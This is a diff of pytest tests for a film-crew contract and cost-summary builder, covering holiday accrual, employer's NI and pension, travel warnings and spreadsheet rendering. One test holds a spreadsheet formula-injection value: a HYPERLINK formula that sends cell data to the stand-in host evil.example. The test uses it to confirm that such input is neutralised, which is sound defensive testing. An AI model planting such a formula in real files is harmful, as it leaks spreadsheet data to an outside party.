@@ -11,26 +11,30 @@ from pathlib import Path
 
 import pytest
 
-from paperwork.builders.base import BuildOptions, BuiltDocument
+from paperwork.builders.base import BuildOptions, BuiltDocument, SumOf
 from paperwork.builders.crew_contract import (
     ContractContext,
     check_calls,
+    check_travel,
     cost,
     working_days,
 )
 from paperwork.builders.crew_contract import build as build_contracts
 from paperwork.errors import Diagnostics
 from paperwork.model.production import (
+    Company,
     ContractTerms,
     CrewMember,
     Deal,
     HolidayTreatment,
     KitBasis,
     Money,
+    Person,
     Production,
     RateBasis,
     RateRule,
     TaxStatus,
+    Travel,
     WorkingDay,
     WorkPattern,
 )
@@ -115,13 +119,16 @@ def test_christmas_bank_holidays_are_named_and_excluded_unless_worked() -> None:
 
 
 def test_daily_rate_with_accrued_holiday_for_a_regular_worker() -> None:
-    """10 days × £350 = £3,500; 28 days × 12/366 = 0.92 days × £350 = £322.00."""
+    """10 days × £350 = £3,500; 28 days ÷ 260 (52 × 5) × £3,500 = £376.923 -> £376.92."""
     c = _cost()
     assert c.fees == 350000 and c.day_pay == 35000 and c.hourly_base == 3500
-    assert c.leave_days == Decimal("0.92")  # leave year 1 Mar 2027 - 29 Feb 2028: 366 days
-    assert c.holiday_pay == 32200
+    assert c.leave_days == Decimal("1.08")  # 10 days worked × 28/260
+    assert c.holiday_pay == 37692
+    assert c.holiday is not None and c.holiday.working == (
+        "28 days a year ÷ 260 (52 × 5) × £3,500.00 (10 days worked: 1.08 days' leave)"
+    )
     assert c.overtime_hourly == 5250  # 1.5 × £35.00, no agreement caps
-    assert c.total == 382200
+    assert c.total == 387692
 
 
 def test_sixth_days_and_rolled_up_holiday_round_half_up() -> None:
@@ -186,14 +193,14 @@ def test_eleven_day_fortnight_weekly_rate() -> None:
 
 
 def test_hourly_rate_over_a_semi_continuous_day() -> None:
-    """£18.50 × 9.5 h = £175.75 a day; × 10 days = £1,757.50; 0.92 days' leave = £161.69."""
+    """£18.50 × 9.5 h = £175.75 a day; × 10 days = £1,757.50; × 28/260 = £189.269 -> £189.27."""
     c = _cost(
         rate=Money(1850),
         basis=RateBasis.HOURLY,
         standard_day=WorkingDay(Decimal("9.5"), Decimal("0.5")),
     )
     assert (c.day_pay, c.fees, c.hourly_base, c.overtime_hourly) == (17575, 175750, 1850, 2775)
-    assert c.holiday_pay == 16169  # 0.92 × £175.75 = £161.69
+    assert c.holiday_pay == 18927
 
 
 def test_fee_basis_and_rolled_up_pennies() -> None:
@@ -219,22 +226,36 @@ def test_accrued_for_irregular_hours_equals_rolled_up_money() -> None:
     assert a.holiday is not None and a.holiday.label == "Holiday pay (accrued, paid in lieu)"
 
 
-def test_regular_accrual_uses_the_terms_leave_year() -> None:
-    """7 Dec 2026 - 19 Mar 2027 (103 days), leave year from 1 Apr 2026: 28 × 103/365 = 7.90."""
+@pytest.mark.parametrize(
+    ("basis", "rate", "fees"),
+    [
+        (RateBasis.DAILY, Money(35000), 350000),  # 10 × £350
+        (RateBasis.WEEKLY, Money(175000), 350000),  # £1,750 × 10 ÷ 5
+        (RateBasis.HOURLY, Money(3500), 350000),  # £35 × 10 h × 10 days
+        (RateBasis.FEE, Money(350000), 350000),  # the fee
+    ],
+)
+def test_accrued_holiday_is_one_day_count_rule_for_every_basis(
+    basis: RateBasis, rate: Money, fees: int
+) -> None:
+    """Leave = days worked × 28/260 and pay = fees × 28/260, whatever the rate basis."""
+    c = _cost(rate=rate, basis=basis)
+    assert (c.days.count, c.fees) == (10, fees)
+    assert (c.leave_days, c.holiday_pay) == (Decimal("1.08"), 37692)
+
+
+def test_accrual_caps_at_28_days_a_year_and_ignores_the_leave_year() -> None:
+    """6 days a week: 28 ÷ 312 a day worked; the terms' leave year no longer moves the sum."""
     terms = dataclasses.replace(TERMS, leave_year_start=date(2026, 4, 1))
-    c = _cost(
-        terms,
-        start=date(2026, 12, 7),
-        end=date(2027, 3, 19),
-        rate=Money(175000),
-        basis=RateBasis.WEEKLY,
+    c = _cost(terms, end=SAT_13_MARCH, days_per_week=Decimal(6))
+    # 10 × £350 + 2 sixth days × £525 = £4,550; × 28/312 = £408.333 -> £408.33
+    assert (c.days.count, c.fees, c.holiday_pay, c.leave_days) == (
+        12,
+        455000,
+        40833,
+        Decimal("1.08"),
     )
-    assert (c.days.count, c.fees, c.leave_days, c.holiday_pay) == (
-        72,
-        2520000,
-        Decimal("7.90"),
-        276500,
-    )
+    assert c.holiday_pay == _cost(end=SAT_13_MARCH, days_per_week=Decimal(6)).holiday_pay
 
 
 @pytest.mark.parametrize(
@@ -320,7 +341,8 @@ def test_one_contract_per_person_and_a_summary(tmp_path: Path) -> None:
     ]
     assert all(doc.kind == "crew-contracts" for doc in docs)
     assert docs[0].title == "Seán O'Neill: Director of Photography"
-    assert docs[-1].formats == ("xlsx", "csv") and [s.name for s in docs[-1].sheets] == [
+    assert docs[-1].formats == ("pdf", "docx", "xlsx", "csv")
+    assert docs[-1].template == "crew_summary" and [s.name for s in docs[-1].sheets] == [
         "Crew costs",
         "Working",
         "Method",
@@ -337,21 +359,32 @@ def test_one_contract_per_person_and_a_summary(tmp_path: Path) -> None:
     assert ctx.crew_signs_for == "For and on behalf of O'Neill & Sons Ltd"
 
 
-def test_summary_grand_total_is_the_sum_of_the_rows(tmp_path: Path) -> None:
-    """Every money column's total row equals the sum of the people above it, exactly."""
+def test_summary_rows_are_typed_and_totals_are_sums_of_their_columns(tmp_path: Path) -> None:
+    """Dates are dates, money is Money, and every total is a SumOf with the builder's figure."""
     docs, _ = _build(_production(tmp_path))
     sheet = docs[-1].sheets[0]
     *people, total = sheet.rows
-    assert total[0] == "Total (3 crew)"
-    for col in range(9, 15):
-        assert total[col] == sum(Decimal(str(row[col])) for row in people)
-    # £10,185.00 + £2,185.37 + (10 × £330 + 0.92 days × £330 = £3,603.60)
-    assert total[13] == Decimal("15973.97")
+    col = {h.split(" (")[0]: i for i, h in enumerate(sheet.header)}
+    assert sheet.header[col["Fees"]] == "Fees (GBP)"
     kit = people[1]
-    assert kit[15] == (
-        "Fees: 10 days × £150.00 = £1,500.00; 6th days: 2 days × £225.00 (1.5 × £150.00) = "
-        "£450.00; Holiday pay (rolled-up): 12.07% × £1,950.00 = £235.37"
-    )
+    assert (kit[col["Start"]], kit[col["End"]]) == (MON_1_MARCH, SAT_13_MARCH)
+    assert kit[col["Fees"]] == Money(195000) and kit[col["Holiday pay"]] == Money(23537)
+    assert kit[col["NI/pension"]] == "applies (PAYE)"
+    assert people[0][col["NI/pension"]] == "not applicable (loan-out company)"
+    # Kit's row total: =SUM(Fees..Employer's pension) of its own row, £2,535.20.
+    assert kit[col["Total cost"]] == SumOf(col["Fees"], 1, 1, Money(253520), col["Total cost"] - 1)
+    assert total[0] == "Total (3 crew)"
+    for name in ("Fees", "Holiday pay", "Kit", "Per diems", "Employer's NI", "Total cost"):
+        cell = total[col[name]]
+        assert isinstance(cell, SumOf) and (cell.column, cell.first, cell.last) == (col[name], 0, 2)
+        minor = [
+            v.value.minor if isinstance(v, SumOf) else v.minor  # type: ignore[union-attr]
+            for v in (r[col[name]] for r in people)
+        ]
+        assert cell.value == Money(sum(minor)), name
+    # £10,185.00 (loan-out, no on-costs) + £2,535.20 (Kit) + £4,225.71 (Jo)
+    assert total[col["Total cost"]] == SumOf(col["Total cost"], 0, 2, Money(1694591))
+    assert total[col["Employer's NI"]] == SumOf(col["Employer's NI"], 0, 2, Money(81852))
 
 
 def test_people_are_chosen_by_name_or_slug_and_get_no_summary(tmp_path: Path) -> None:
@@ -418,6 +451,80 @@ def test_called_days_must_fall_inside_the_contract(tmp_path: Path) -> None:
     assert "Sat 06/03/2027" in rest.message
 
 
+def _travel(out: date, back: date, *names: str) -> Travel:
+    return Travel(
+        pos=Pos("production.yaml", 30),
+        holder=Company("Test Pictures Ltd"),
+        home="GB",
+        home_name="United Kingdom",
+        home_territory="",
+        intended_use="Professional equipment",
+        representatives=tuple(Person(n, "Crew") for n in names),
+        departure=out,
+        return_date=back,
+    )
+
+
+def test_travel_days_outside_the_contract_or_per_diems_are_reported(tmp_path: Path) -> None:
+    """Out Sun 28 Feb, back Sat 13 Mar: each traveller's uncovered travel day, at its cell.
+
+    Seán travels (per diem days given) and Kit and Jo are named representatives: all start on
+    1 Mar, so the day out is outside; Jo ends on the 12th, so the day back is too. Seán's 3
+    per diem days are fewer than the 14 away; Kit and Jo have no per diem.
+    """
+    p = _production(tmp_path)
+    assert p.terms is not None
+    d = Diagnostics()
+    travel = _travel(date(2027, 2, 28), SAT_13_MARCH, "Kit Ashworth", "jo  bloggs")
+    check_travel(p.crew, travel, p.terms, d)
+    assert sorted((i.code, i.severity, str(i.pos)) for i in d) == [
+        ("travel-day-without-per-diem", "warning", "crew.csv:2:per_diem_days"),
+        ("travel-day-without-per-diem", "warning", "crew.csv:3:per_diem"),
+        ("travel-day-without-per-diem", "warning", "crew.csv:4:per_diem"),
+        ("travel-outside-contract", "warning", "crew.csv:2:start"),
+        ("travel-outside-contract", "warning", "crew.csv:3:start"),
+        ("travel-outside-contract", "warning", "crew.csv:4:end"),
+        ("travel-outside-contract", "warning", "crew.csv:4:start"),
+    ]
+    jo_end = next(i for i in d if str(i.pos) == "crew.csv:4:end")
+    assert "Sat 13/03/2027" in jo_end.message
+
+
+def test_travel_inside_the_contract_with_per_diems_is_quiet(tmp_path: Path) -> None:
+    """Out Mon 1, back Sat 6 Mar: inside every contract; 6 days away needs 6 per diem days."""
+    p = _production(tmp_path)
+    assert p.terms is not None
+    sean = p.crew[0]
+    assert sean.deal is not None
+    six = dataclasses.replace(sean, deal=dataclasses.replace(sean.deal, per_diem_days=6))
+    d = Diagnostics()
+    check_travel((six,), _travel(MON_1_MARCH, date(2027, 3, 6)), p.terms, d)
+    assert d.items == []
+    # Per diems on working days only: a 5-day week's Saturday travel day is not covered.
+    jo = p.crew[2]
+    assert jo.deal is not None
+    paid = dataclasses.replace(jo, deal=dataclasses.replace(jo.deal, per_diem=Money(4500)))
+    check_travel((paid,), _travel(MON_1_MARCH, date(2027, 3, 6), "Jo Bloggs"), p.terms, d)
+    assert [(i.code, str(i.pos)) for i in d] == [
+        ("travel-day-without-per-diem", "crew.csv:4:per_diem")
+    ]
+    assert "Sat 06/03/2027" in d.items[0].message
+
+
+def test_the_builder_checks_travel_from_the_manifest(tmp_path: Path) -> None:
+    """A travel: section with departure and return: the build reports the same warnings."""
+    p = dataclasses.replace(
+        _production(tmp_path), travel=_travel(date(2027, 2, 28), MON_1_MARCH, "Kit Ashworth")
+    )
+    _, d = _build(p)
+    # Seán's 3 per diem days cover the 2 days away; Kit has none.
+    assert sorted((i.code, str(i.pos)) for i in d) == [
+        ("travel-day-without-per-diem", "crew.csv:3:per_diem"),
+        ("travel-outside-contract", "crew.csv:2:start"),
+        ("travel-outside-contract", "crew.csv:3:start"),
+    ]
+
+
 # --- Rendering ------------------------------------------------------------------------------
 
 
@@ -465,17 +572,142 @@ def test_both_formats_carry_the_facts_and_figures(tmp_path: Path) -> None:
         "Seán O'Neill: Director of Photography",
         "Kit Ashworth: Floor Runner",
         "Jo Bloggs: Gaffer",
+        "Crew cost summary: The Test Road",
     ]
     csv = (tmp_path / "out" / "crew-summary_2027-02-01.csv").read_bytes().decode("utf-8-sig")
     assert csv.splitlines()[-1].startswith("Total (3 crew),")
-    assert ",2185.37," in csv and ",15973.97," in csv
+    assert ",01/03/2027,13/03/2027," in csv and ",2535.20," in csv and ",16945.91," in csv
     from openpyxl import load_workbook
 
     book = load_workbook(
         io.BytesIO((tmp_path / "out" / "crew-summary_2027-02-01.xlsx").read_bytes())
     )
     assert book.sheetnames == ["Crew costs", "Working", "Method"]
-    assert book["Crew costs"]["N5"].value == pytest.approx(15973.97)
+    costs = book["Crew costs"]
+    assert costs["F3"].data_type == "d" and costs["F3"].number_format == "DD/MM/YYYY"
+    assert costs["F3"].value.date() == MON_1_MARCH
+    assert costs["K3"].data_type == "n" and "£" in costs["K3"].number_format
+    assert costs["K3"].value == 1950
+    assert costs["Q3"].value == "=SUM(K3:P3)"
+    assert costs["K5"].value == "=SUM(K2:K4)" and "£" in costs["K5"].number_format
+    assert costs["H5"].value == "=SUM(H2:H4)"
+    assert book.calculation.fullCalcOnLoad
+    summary = PdfReader(tmp_path / "out" / "crew-summary_2027-02-01.pdf")
+    text = " ".join(page.extract_text() for page in summary.pages).replace("\n", " ")
+    for fact in ("Crew cost summary", "Total (3 crew)", "£16,945.91", "£299.01", "£50.82",
+                 "not applicable", "Employment Allowance"):  # fmt: skip
+        assert fact in text, fact
+    word_summary = docx_text((tmp_path / "out" / "crew-summary_2027-02-01.docx").read_bytes())
+    assert "£16,945.91" in word_summary and "£2,535.20" in word_summary
+
+
+def test_a_formula_in_the_crew_table_stays_text_in_the_summary(tmp_path: Path) -> None:
+    """A role '=HYPERLINK(...)' is a text cell in crew-summary.xlsx and quoted in the CSV."""
+    from openpyxl import load_workbook
+
+    from paperwork.render.sheets import render_csv, render_xlsx
+
+    role = '=HYPERLINK("http://evil.example/?"&A1,"Gaffer")'
+    rows = ROWS.replace(",Gaffer,", ',"' + role.replace('"', '""') + '",')
+    docs, _ = _build(_production(tmp_path, rows))
+    sheets = docs[-1].sheets
+    ws = load_workbook(io.BytesIO(render_xlsx(sheets)))["Crew costs"]
+    assert (ws["B4"].value, ws["B4"].data_type) == (role, "s")
+    csv = render_csv(sheets[0]).decode("utf-8-sig")
+    assert "'=HYPERLINK" in csv and ",=HYPERLINK" not in csv
+
+
+# --- Employer's NI and pension ---------------------------------------------------------------
+
+
+def test_employer_ni_and_pension_per_weekly_pay_period() -> None:
+    """£3,500 + £376.92 holiday over two 5-day weeks: £1,938.46 a week (2026/27 rates).
+
+    NI: 15 % × (£1,938.46 - £96) × 2 = £552.738 -> £552.74.
+    Pension: 3 % × (£967 - £120) × 2 = £50.82 (pay above the upper limit counts to £967).
+    """
+    c = _cost()
+    oc = c.on_costs
+    assert oc.applies and oc.status == "applies (PAYE)"
+    assert oc.ni is not None and oc.pension is not None
+    assert (oc.ni.pence, oc.pension.pence) == (55274, 5082)
+    assert c.employer_total == 387692 + 55274 + 5082
+    assert oc.ni.working.startswith("2026/27: 15% of pay above £96.00 a week; £3,876.92 over 2")
+
+
+def test_2024_25_rates_and_a_week_in_each_tax_year() -> None:
+    """Mon 31 Mar - Fri 11 Apr 2025: week 1 in 2024/25 (13.8 % above £175), week 2 in 2025/26.
+
+    Each week £1,938.46: 13.8 % × £1,763.46 + 15 % × £1,842.46 = £243.357 + £276.369 = £519.73.
+    """
+    c = _cost(start=date(2025, 3, 31), end=date(2025, 4, 11))
+    assert c.on_costs.ni is not None and c.on_costs.ni.pence == 51973
+    assert "2024/25: 13.8% of pay above £175.00" in c.on_costs.ni.working
+    assert "2025/26: 15% of pay above £96.00" in c.on_costs.ni.working
+    one = _cost(start=date(2025, 3, 3), end=date(2025, 3, 7))  # £1,750 + £188.46, 2024/25
+    assert one.on_costs.ni is not None and one.on_costs.ni.pence == 24336  # 13.8 % × £1,763.46
+    assert one.on_costs.pension is not None and one.on_costs.pension.pence == 2541  # 3 % × £847
+
+
+def test_no_pension_in_a_week_below_the_auto_enrolment_trigger() -> None:
+    """Mondays only at £150: £166.16 a week with holiday, under the £192 trigger: NI only."""
+    c = _cost(rate=Money(15000), days_per_week=Decimal(1))
+    # £300 + £300 × 5.6/52 (£32.31) = £332.31; NI 15 % × (£166.155 - £96) × 2 = £21.05
+    assert (c.fees, c.holiday_pay) == (30000, 3231)
+    assert c.on_costs.ni is not None and c.on_costs.ni.pence == 2105
+    assert c.on_costs.pension is not None and c.on_costs.pension.pence == 0
+    assert "0 of 2 weeks above the trigger" in c.on_costs.pension.working
+
+
+@pytest.mark.parametrize(
+    ("status", "text"),
+    [
+        (TaxStatus.SELF_EMPLOYED, "not applicable (self-employed)"),
+        (TaxStatus.LOAN_OUT, "not applicable (loan-out company)"),
+    ],
+)
+def test_no_on_costs_for_self_employed_or_loan_out(status: TaxStatus, text: str) -> None:
+    """Self-employed and loan-out crew: no NI, no pension, and the summary says why."""
+    c = _cost(tax_status=status, holiday=HolidayTreatment.NONE, company="X Ltd")
+    assert (c.on_costs.applies, c.on_costs.status, c.on_costs.total) == (False, text, 0)
+    assert c.employer_total == c.total
+
+
+def test_a_tax_year_without_rates_is_reported_at_the_start(tmp_path: Path) -> None:
+    """An engagement in 2028/29, beyond the reference data: a warning at its start cell."""
+    rows = "Jo Bloggs,Gaffer,Lighting,,2028-05-01,2028-05-05,5,330,daily,,,,,,,,PAYE,,,,\n"
+    docs, d = _build(_production(tmp_path, rows))
+    assert [(i.code, str(i.pos)) for i in d] == [("no-payroll-rates", "crew.csv:2:start")]
+    assert docs[-1].sheets[0].rows[0][4] == "applies (PAYE): rates not known"
+
+
+def test_summary_templates_use_only_its_context_and_the_docx_is_the_tools() -> None:
+    """crew_summary.{html,docx} name only SummaryContext fields; the tool makes the DOCX."""
+    from docxtpl import DocxTemplate
+    from jinja2 import meta
+
+    from paperwork.builders.crew_contract import SummaryContext
+    from paperwork.render.templates import TemplateSet
+    from paperwork.resources import templates_dir
+
+    fields = {f.name for f in dataclasses.fields(SummaryContext)}
+    ts = TemplateSet([templates_dir()])
+    docx_vars = DocxTemplate(
+        str(templates_dir() / "crew_summary.docx")
+    ).get_undeclared_template_variables(ts.env)
+    html = (templates_dir() / "crew_summary.html").read_text(encoding="utf-8")
+    assert docx_vars and docx_vars <= fields
+    assert meta.find_undeclared_variables(ts.env.parse(html)) <= fields
+    spec = importlib.util.spec_from_file_location(
+        "make_summary_templates", REPO / "tools" / "make_summary_templates.py"
+    )
+    assert spec is not None and spec.loader is not None
+    tool = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(tool)
+    assert (
+        tool.kit.render(tool.crew_summary)
+        == (REPO / "templates" / "crew_summary.docx").read_bytes()
+    )
 
 
 # --- Templates and the documented context ----------------------------------------------------
